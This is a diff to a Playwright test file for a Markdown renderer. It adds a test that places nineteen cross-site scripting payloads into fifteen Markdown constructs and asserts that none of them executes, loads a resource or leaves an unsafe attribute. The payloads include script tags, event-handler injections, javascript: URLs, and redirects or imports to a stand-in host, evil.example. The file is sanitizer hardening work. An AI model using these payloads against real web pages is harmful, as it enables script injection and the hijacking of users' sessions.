@@ -103,7 +103,7 @@ def render(page: Page) -> Callable[[str], str]:
         ("<b>bold</b> & co", "<p>&lt;b&gt;bold&lt;/b&gt; &amp; co</p>"),
         (
             "~~~\na\n```\n~~~",
-            '<figure class="code"><figcaption><span>text</span></figcaption><pre tabindex="0" role="region" aria-label="Code, text"><code>a\n```</code></pre></figure>',
+            '<figure class="code"><figcaption><span>text</span></figcaption><pre tabindex="0" role="group" aria-label="Code, text"><code>a\n```</code></pre></figure>',
         ),
     ],
 )
@@ -199,6 +199,86 @@ def test_html_of_a_model_is_text(page: Page, text: str) -> None:
     assert found["hit"] is None
     assert set(found["tags"]) <= ALLOWED
     assert found["handlers"] == []
+
+
+PAYLOADS = [
+    "<script>window.hit=1</script>",
+    "<img src=x onerror=window.hit=1>",
+    "<svg/onload=window.hit=1>",
+    "<svg><script href=data:text/javascript,window.hit=1 />",
+    "<math><mtext><script>window.hit=1</script></mtext></math>",
+    "<iframe src=javascript:parent.hit=1>",
+    "<object data=javascript:window.hit=1>",
+    "<details open ontoggle=window.hit=1>",
+    "<input autofocus onfocus=window.hit=1>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<a href=javascript:window.hit=1 autofocus onfocus=window.hit=1>x</a>",
+    "<form action=//evil.example><button>x</button></form>",
+    "<base href=//evil.example><img src=x>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "&lt;img src=x onerror=window.hit=1&gt;",
+    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
+    "javascript:window.hit=1",
+    "data:text/html,<script>window.hit=1</script>",
+    '" onmouseover=window.hit=1 x="',
+]
+CARRIERS = [
+    "{}",
+    "# {}",
+    "- {}\n  - {}",
+    "> {}",
+    "**{}** *{}*",
+    "`{}`",
+    "```{}\n{}\n```",
+    "[{}](https://x.org)",
+    "[x]({})",
+    "[x](<{}>)",
+    "![{}]({})",
+    "| {} |\n|---|\n| {} |",
+    "$\\text{{}}$",
+    "$${}$$",
+    "<{}>",
+]
+"""Where a payload may stand: 19 of them in 15 places are 285 texts."""
+
+
+def test_hostile_texts_run_nothing(page: Page) -> None:
+    """None is run, loads anything or leaves an element that Markdown does not have, whole or as it grows."""
+    texts = [carrier.replace("{}", payload) for payload in PAYLOADS for carrier in CARRIERS]
+    assert len(set(texts)) == 285
+    before = page.evaluate("document.querySelectorAll('*').length")
+    found = page.evaluate(
+        """async (texts) => {
+            const { Growing, markdown } = await import("/assets/markdown.js");
+            const place = document.createElement("div");
+            document.querySelector("main").append(place);
+            const shown = texts.map((text) => {
+                const grown = document.createElement("div");
+                const growing = new Growing(grown);
+                const whole = markdown(text);
+                place.append(whole, grown);
+                for (let end = 0; end <= text.length; end += 7) growing.show(text.slice(0, end));
+                growing.show(text, true);
+                const all = [...whole.querySelectorAll("*"), ...grown.querySelectorAll("*")];
+                return [
+                    [...new Set(all.map((one) => one.tagName.toLowerCase()))],
+                    all.flatMap((one) => one.getAttributeNames()).filter((name) => /^on|^style$|^src|^action|^data$/.test(name)),
+                    all.map((one) => one.getAttribute("href")).filter((to) => to !== null && !/^(https?:|mailto:|#)/.test(to)),
+                ];
+            });
+            for (const one of place.querySelectorAll("*")) one.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
+            await new Promise((resolve) => setTimeout(resolve, 300));
+            place.remove();
+            return { hit: window.hit ?? null, shown };
+        }""",
+        texts,
+    )
+    assert found["hit"] is None
+    for text, (tags, handlers, links) in zip(texts, found["shown"], strict=True):
+        assert set(tags) <= ALLOWED, text
+        assert handlers == [], text
+        assert links == [], text
+    assert page.evaluate("document.querySelectorAll('*').length") == before
 
 
 BOMBS = [
